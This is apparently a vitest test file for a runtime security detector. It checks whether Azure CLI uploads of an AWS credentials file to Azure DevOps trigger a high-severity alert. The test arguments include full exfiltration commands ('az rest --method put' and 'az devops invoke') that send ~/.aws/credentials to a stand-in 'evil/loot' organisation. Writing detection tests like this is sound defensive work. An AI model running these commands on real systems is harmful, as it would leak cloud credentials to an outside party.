/**
 * `az rest` to Azure DevOps (red-team review): `az rest --method put --url https://dev.azure.com/…/_apis/… --body
 * @~/.aws/credentials` commits or attaches a credential through Azure DevOps' REST API and raised nothing when
 * az ran as its own binary (a few KiB, far under the egress threshold; as `python3 -Im azure.cli` its command line
 * already had an inline upload's shape). A GET, and writes to Azure Resource
 * Manager (unclassed), stay quiet. Checked as exported Tetragon and Falco JSON lines through the real scan path;
 * kept out of the scenario library (the bench's workload).
 */
import { describe, expect, it } from 'vitest';
import type { SensorForm } from '../../src/scenarios/index.js';
import { briefOf, inlineScenario, runInlineScenario } from './harness.js';

const CREDS = '/home/dev/.aws/credentials';
const DNS = { 'dev.azure.com': '13.107.42.20', 'management.azure.com': '4.150.240.10' };

/** az as its packages install it (`python3 -Im azure.cli ARGS`), or as one binary (`pyinstaller`-style builds). */
async function alertsOf(name: string, azArgs: string, host: string, form: SensorForm, asPython = true) {
  const exec = asPython
    ? { binary: '/usr/bin/python3', args: `-Im azure.cli ${azArgs}` }
    : { binary: '/usr/local/bin/az', args: azArgs };
  const s = inlineScenario(name, DNS, [
    { at: '1s', exec: { id: 'az', parent: 'app', ...exec, uid: 1000 } },
    { after: '3ms', read: { proc: 'az', path: CREDS, bytes: 116 } },
    { after: '5ms', upload: { proc: 'az', to: `${host}:443`, bytes: '4KiB', over: '400ms' } },
    { after: '10ms', exit: { proc: 'az' } },
  ]);
  return (await runInlineScenario(s, form)).alerts.map(briefOf);
}

describe('az rest', () => {
  for (const form of ['tetragon', 'falco'] as const) {
    it(`a credential put to Azure DevOps' API by az rest is high (${form})`, async () => {
      const url = 'https://dev.azure.com/evil/loot/_apis/git/repositories/r/pushes?api-version=7.1';
      const args = `rest --method put --url ${url} --body @${CREDS}`;
      expect(await alertsOf('az-rest-put', args, 'dev.azure.com', form, false)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'az', destination: 'dev.azure.com' },
      ]);
      // Run by Python, its command line was already an inline upload's shape (a writing verb and a forge's URL).
      expect(await alertsOf('az-rest-put-py', args, 'dev.azure.com', form)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'python', destination: 'dev.azure.com' },
      ]);
    });

    it(`a file posted to Azure DevOps by az devops invoke is high (${form})`, async () => {
      const args = `devops invoke --org https://dev.azure.com/evil --area git --resource pushes --http-method POST --in-file ${CREDS}`;
      expect(await alertsOf('az-devops-invoke', args, 'dev.azure.com', form, false)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'az', destination: 'dev.azure.com' },
      ]);
      const read =
        'devops invoke --org https://dev.azure.com/acme --area git --resource repositories --http-method GET';
      expect(await alertsOf('az-devops-invoke-get', read, 'dev.azure.com', form, false)).toEqual([]);
    });

    it(`a GET from Azure DevOps, and a write to Azure Resource Manager, are quiet (${form})`, async () => {
      const get = 'rest --method get --url https://dev.azure.com/acme/_apis/projects';
      expect(await alertsOf('az-rest-get', get, 'dev.azure.com', form)).toEqual([]);
      expect(await alertsOf('az-rest-get-bin', get, 'dev.azure.com', form, false)).toEqual([]);
      const arm = `rest --method put --url https://management.azure.com/subscriptions/x/resourcegroups/rg --body @${CREDS}`;
      expect(await alertsOf('az-rest-arm', arm, 'management.azure.com', form)).toEqual([]);
      expect(await alertsOf('az-rest-arm-bin', arm, 'management.azure.com', form, false)).toEqual([]);
    });
  }
});
